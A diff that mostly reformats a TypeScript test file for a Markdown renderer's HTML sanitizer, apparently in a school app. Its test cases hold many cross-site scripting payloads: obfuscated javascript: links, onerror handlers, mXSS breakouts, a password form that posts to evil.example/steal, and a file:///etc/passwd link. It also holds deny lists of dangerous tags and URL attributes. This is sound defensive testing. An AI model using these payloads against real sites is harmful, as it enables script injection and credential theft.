@@ -41,7 +41,11 @@ const HOSTILE: HostileCase[] = [
   { name: 'shortcut reference link', markdown: '[evil]\n\n[evil]: javascript:alert(1) "title"', keeps: 'evil' },
   { name: 'autolink with javascript: scheme', markdown: 'Go <javascript:alert(1)> now', keeps: 'now' },
   { name: 'angle-bracket destination', markdown: '[click me](<javascript:alert(1)>)', keeps: 'click me' },
-  { name: 'scheme with a tab inside', markdown: `[click me](java${TAB}script:alert(1))\n\n<a href="java${TAB}script:alert(1)">tab</a>`, keeps: 'tab' },
+  {
+    name: 'scheme with a tab inside',
+    markdown: `[click me](java${TAB}script:alert(1))\n\n<a href="java${TAB}script:alert(1)">tab</a>`,
+    keeps: 'tab',
+  },
   { name: 'scheme with a newline inside', markdown: '<a href="java\nscript:alert(1)">newline</a>', keeps: 'newline' },
   { name: 'leading spaces before javascript:', markdown: '<a href="   javascript:alert(1)">spaces</a>', keeps: 'spaces' },
   { name: 'entity in raw HTML href', markdown: '<a href="&#x6A;avascript&colon;alert(1)">entity</a>', keeps: 'entity' },
@@ -54,7 +58,8 @@ const HOSTILE: HostileCase[] = [
   { name: 'style attribute', markdown: '<p style="position:fixed;inset:0;background:red">cover</p>', keeps: 'cover' },
   {
     name: 'form with button formaction',
-    markdown: '<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>',
+    markdown:
+      '<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>',
   },
   { name: 'meta refresh', markdown: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">Text', keeps: 'Text' },
   { name: 'base href', markdown: '<base href="https://evil.example/">\n\n[help](/help)', keeps: 'help' },
@@ -63,7 +68,11 @@ const HOSTILE: HostileCase[] = [
   { name: 'mXSS: noscript title breakout', markdown: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
   { name: 'mXSS: svg/p/style nesting', markdown: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' },
   { name: 'svg xlink:href', markdown: '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">svg link</text></a></svg>' },
-  { name: 'srcset and source onerror', markdown: '<img srcset="javascript:alert(1) 1x"><video><source onerror="alert(1)"></video>x', keeps: 'x' },
+  {
+    name: 'srcset and source onerror',
+    markdown: '<img srcset="javascript:alert(1) 1x"><video><source onerror="alert(1)"></video>x',
+    keeps: 'x',
+  },
   {
     name: 'author target and rel are replaced',
     markdown: '<a href="https://ok.example/" onclick="alert(1)" target="_self" rel="opener">fine</a>',
@@ -74,16 +83,32 @@ const HOSTILE: HostileCase[] = [
   { name: 'HTML comment hiding markup', markdown: 'A<!--<img src=x onerror=alert(1)>-->B', keeps: 'B' },
   { name: 'template element', markdown: '<template><img src=x onerror=alert(1)></template>T', keeps: 'T' },
   { name: 'file: and ftp: links', markdown: '<a href="file:///etc/passwd">f</a> [ftp](ftp://files.example/x)', keeps: 'ftp' },
-  { name: 'protocol-relative and relative links', markdown: '[far](//evil.example/path) [near](../options.html) [anchor](#top)', keeps: 'near' },
+  {
+    name: 'protocol-relative and relative links',
+    markdown: '[far](//evil.example/path) [near](../options.html) [anchor](#top)',
+    keeps: 'near',
+  },
   { name: 'input autofocus onfocus', markdown: '<input autofocus onfocus="alert(1)">typed', keeps: 'typed' },
-  { name: 'xmp and textarea raw text', markdown: '<xmp><img src=x onerror=alert(1)></xmp><textarea><img src=x onerror=alert(1)></textarea>' },
+  {
+    name: 'xmp and textarea raw text',
+    markdown: '<xmp><img src=x onerror=alert(1)></xmp><textarea><img src=x onerror=alert(1)></textarea>',
+  },
   { name: 'link title breaking out of the attribute', markdown: '[t](https://ok.example/ "\\" onmouseover=\\"alert(1)")', keeps: 't' },
   { name: 'image title breaking out', markdown: '![alt](https://ok.example/a.png "\\" onerror=\\"alert(1)")', keeps: 'alt' },
-  { name: 'id and name (DOM clobbering)', markdown: '<a id="defaultView" name="cookie" href="https://ok.example/">clobber</a>', keeps: 'clobber' },
+  {
+    name: 'id and name (DOM clobbering)',
+    markdown: '<a id="defaultView" name="cookie" href="https://ok.example/">clobber</a>',
+    keeps: 'clobber',
+  },
   { name: 'link stylesheet', markdown: '<link rel="stylesheet" href="https://evil.example/x.css">styled', keeps: 'styled' },
   { name: 'data and aria attributes', markdown: '<p data-action="delete" aria-hidden="true" class="btn">attrs</p>', keeps: 'attrs' },
   { name: 'inline: block markup and heading', markdown: '# <div onclick="alert(1)">Title</div> <p>para</p>', keeps: 'Title', inline: true },
-  { name: 'inline: javascript link', markdown: 'Open [settings](javascript:alert(1)) <img src=x onerror=alert(1)>', keeps: 'settings', inline: true },
+  {
+    name: 'inline: javascript link',
+    markdown: 'Open [settings](javascript:alert(1)) <img src=x onerror=alert(1)>',
+    keeps: 'settings',
+    inline: true,
+  },
 ];
 
 /** A plain description of a fragment's nodes, so that the same check runs on any DOM. */
@@ -119,16 +144,66 @@ function describeHtml(html: string, doc: Document = document): { nodes: NodeInfo
 
 const HTML_NS = 'http://www.w3.org/1999/xhtml';
 const CARD_ELEMENTS = new Set([
-  'a', 'strong', 'em', 'b', 'i', 'del', 's', 'code', 'kbd', 'br',
-  'p', 'hr', 'ul', 'ol', 'li', 'blockquote', 'pre', 'table', 'thead', 'tbody', 'tr', 'th', 'td',
+  'a',
+  'strong',
+  'em',
+  'b',
+  'i',
+  'del',
+  's',
+  'code',
+  'kbd',
+  'br',
+  'p',
+  'hr',
+  'ul',
+  'ol',
+  'li',
+  'blockquote',
+  'pre',
+  'table',
+  'thead',
+  'tbody',
+  'tr',
+  'th',
+  'td',
 ]);
 const INLINE_ELEMENTS = new Set(['a', 'strong', 'em', 'b', 'i', 'del', 's', 'code', 'kbd', 'br']);
 const NEVER = new Set([
-  'script', 'style', 'iframe', 'frame', 'object', 'embed', 'form', 'button', 'input', 'meta',
-  'base', 'link', 'img', 'svg', 'math', 'template', 'textarea', 'xmp', 'noscript', 'video', 'source',
+  'script',
+  'style',
+  'iframe',
+  'frame',
+  'object',
+  'embed',
+  'form',
+  'button',
+  'input',
+  'meta',
+  'base',
+  'link',
+  'img',
+  'svg',
+  'math',
+  'template',
+  'textarea',
+  'xmp',
+  'noscript',
+  'video',
+  'source',
 ]);
 const URL_ATTRIBUTES = new Set([
-  'href', 'src', 'srcset', 'xlink:href', 'action', 'formaction', 'data', 'poster', 'background', 'cite', 'ping',
+  'href',
+  'src',
+  'srcset',
+  'xlink:href',
+  'action',
+  'formaction',
+  'data',
+  'poster',
+  'background',
+  'cite',
+  'ping',
 ]);
 const ATTRIBUTES_ALLOWED: Record<string, string[]> = {
   a: ['href', 'title', 'target', 'rel'],
@@ -242,7 +317,9 @@ describe('renderMarkdown: ordinary card text', () => {
 
   it('gives every kind of web link target=_blank and rel=noopener noreferrer', () => {
     const t = parse(
-      renderMarkdown('[a](https://a.example/) <https://b.example/> https://c.example/ [d][r] <help@school.example>\n\n[r]: https://d.example/'),
+      renderMarkdown(
+        '[a](https://a.example/) <https://b.example/> https://c.example/ [d][r] <help@school.example>\n\n[r]: https://d.example/',
+      ),
     );
     const links = Array.from(t.content.querySelectorAll('a'));
     expect(links.map((a) => a.getAttribute('href'))).toEqual([
@@ -397,7 +474,10 @@ describe.skipIf(!chromiumPath)('renderMarkdown in a real browser page (Chromium)
 
   it('renders ordinary Markdown the same way as in the unit-test DOM', async () => {
     const sample = 'Open **Grades**:\n\n1. Pick a column\n2. Press `Enter`\n\n[Help](https://help.example/)';
-    const html = await page.evaluate((s) => (window as unknown as { md: { renderMarkdown(s: string): string } }).md.renderMarkdown(s), sample);
+    const html = await page.evaluate(
+      (s) => (window as unknown as { md: { renderMarkdown(s: string): string } }).md.renderMarkdown(s),
+      sample,
+    );
     expect(html).toBe(renderMarkdown(sample));
   });
 });
